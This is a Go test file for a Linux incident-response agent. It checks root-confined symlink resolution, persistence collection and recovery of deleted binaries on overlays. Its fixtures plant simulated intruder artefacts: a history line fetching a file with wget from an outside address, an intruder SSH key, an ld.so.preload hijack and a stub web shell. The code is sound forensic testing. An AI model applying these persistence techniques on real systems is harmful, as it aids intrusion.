//go:build linux

package inside

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"irkit.dev/irkit/agent"
)

// TestResolve: T02, T03, T07. A path leads where the target's own processes would
// come, and never out of its root.
func TestResolve(t *testing.T) {
	outside := t.TempDir()
	write(t, outside+"/secret", "outside")
	root := t.TempDir()
	write(t, root+"/etc/real", "inside")
	write(t, root+outside+"/secret", "same path, below the root")
	for link, target := range map[string]string{
		"abs": "/etc/real", "climb": "../../../../../../../../etc/real", "sub/up": "..", "sub/w": "up/sub/up/etc/real",
		"out": outside + "/secret", "loop": "loop", "a": "b", "b": "a", "magic": "/proc/self/root/etc/real", "dir": "/etc", "dangling": "/none",
		"far": strings.Repeat("sub/up/", 100) + "etc/real",
	} {
		must(t, os.MkdirAll(filepath.Dir(root+"/"+link), 0o755))
		must(t, os.Symlink(target, root+"/"+link))
	}
	tree, err := openTree(root)
	must(t, err)
	defer tree.Close()
	for p, want := range map[string]string{
		"/abs": "/etc/real", "/climb": "/etc/real", "/sub/w": "/etc/real", "/dir/real": "/etc/real", "/../../etc/./real": "/etc/real",
		"/out": outside + "/secret", "/": "/", "": "/", "/sub/up": "/", "/far": "",
		"/loop": "", "/a": "", "/magic": "", "/dangling": "", "/etc/real/x": "", "/dir/none": "",
	} {
		fd, real, err := tree.resolve(p, true)
		if (err == nil) != (want != "") || real != want {
			t.Errorf("%q leads to %q, %v; want %q", p, real, err, want)
		}
		if err == nil {
			unix.Close(fd)
		}
	}
	if fd, real, err := tree.resolve("/dir", false); err != nil || real != "/dir" {
		t.Errorf("the link itself: %q, %v", real, err)
	} else {
		unix.Close(fd)
	}
	id, err := tree.identify("/out")
	must(t, err)
	if other, _ := identify(outside + "/secret"); id == other {
		t.Error("a link led out of the root")
	}
}

// TestPersistence takes the known places, by whatever link leads there, and lists web
// roots without their bytes.
func TestPersistence(t *testing.T) {
	root := t.TempDir()
	write(t, root+"/etc/passwd", "root:x:0:0::/root:/bin/sh\nsvc:x:9:9::/srv/svc:/bin/sh\nbroken\n")
	write(t, root+"/real/cron/job", "* * * * * "+control)
	must(t, os.Symlink("/real/cron", root+"/etc/cron.d"))
	write(t, root+"/root/.bash_history", "wget http://203.0.113.66/x")
	write(t, root+"/srv/svc/.ssh/authorized_keys", "ssh-ed25519 AAAA intruder")
	write(t, root+"/etc/ld.so.preload", "/tmp/lib.so")
	write(t, root+"/var/www/shell.php", "<?php WEB-BYTES-stay-for-the-filesystem")
	write(t, root+"/usr/bin/other", "not a place")
	must(t, os.Symlink("/", root+"/etc/profile.d"))
	pid := inRoot(t, root)
	all := collect(t, New(Options{TargetPID: pid}), agent.Request{Kind: "persistence"})
	files, names := untar(t, one(t, all, "persistence").bytes), index(t, one(t, all, "persistence-index").bytes)
	agree(t, names, files)
	for p, want := range map[string]string{
		"/real/cron/job": "* * * * * " + control, "/root/.bash_history": "wget http://203.0.113.66/x",
		"/srv/svc/.ssh/authorized_keys": "ssh-ed25519 AAAA intruder", "/etc/ld.so.preload": "/tmp/lib.so",
	} {
		if string(files[p].content) != want {
			t.Errorf("%s: %q", p, files[p].content)
		}
	}
	if files["/etc/cron.d"].Linkname != "/real/cron" {
		t.Errorf("the link that led there: %+v", files["/etc/cron.d"].Header)
	}
	if n, ok := names["/var/www/shell.php"]; !ok || n.Content != leftOut || n.Reason != "listed only" {
		t.Errorf("web root: %+v", n)
	}
	for p := range names {
		if strings.HasPrefix(p, "/usr") {
			t.Errorf("%s is no place", p)
		}
	}
}

// TestOverlay: on an overlay, as containers have it, a program is itself, and one that
// was deleted is deleted.
func TestOverlay(t *testing.T) {
	needRoot(t)
	dir := t.TempDir()
	for _, d := range []string{"lower", "upper", "work", "merged"} {
		must(t, os.Mkdir(dir+"/"+d, 0o755))
	}
	sum := copyOfUs(t, dir+"/lower/app")
	begin := func(task string) int {
		cmd := suspect("overlay " + dir + " " + task)
		cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS}
		return start(t, alone(cmd))
	}
	pid := begin("wait")
	find := func(pid int) Process {
		for _, p := range lines[Process](t, one(t, collect(t, New(Options{TargetPID: pid}), agent.Request{Kind: "processes"}), "processes").bytes) {
			if p.PID == pid {
				return p
			}
		}
		t.Fatalf("no process %d", pid)
		return Process{}
	}
	p := find(pid)
	if p.ExeDeleted || p.Replaced || p.Spoofed || p.ExeSHA256 == nil || *p.ExeSHA256 != sum || p.Exe != dir+"/merged/app" || !p.Target {
		t.Errorf("a program on an overlay: %+v", p)
	}
	pid = begin("unlink " + dir + "/merged/app")
	if p = find(pid); !p.ExeDeleted || p.Replaced || *p.ExeSHA256 != sum {
		t.Errorf("deleted from an overlay: %+v", p)
	}
	found := false
	for _, g := range collect(t, New(Options{TargetPID: pid}), agent.Request{Kind: "recovered"}) {
		found = found || string(g.OrigName) == dir+"/merged/app (deleted)" && len(g.bytes) > 1<<20 && g.err == nil
	}
	if !found {
		t.Error("the deleted program was not recovered")
	}
}
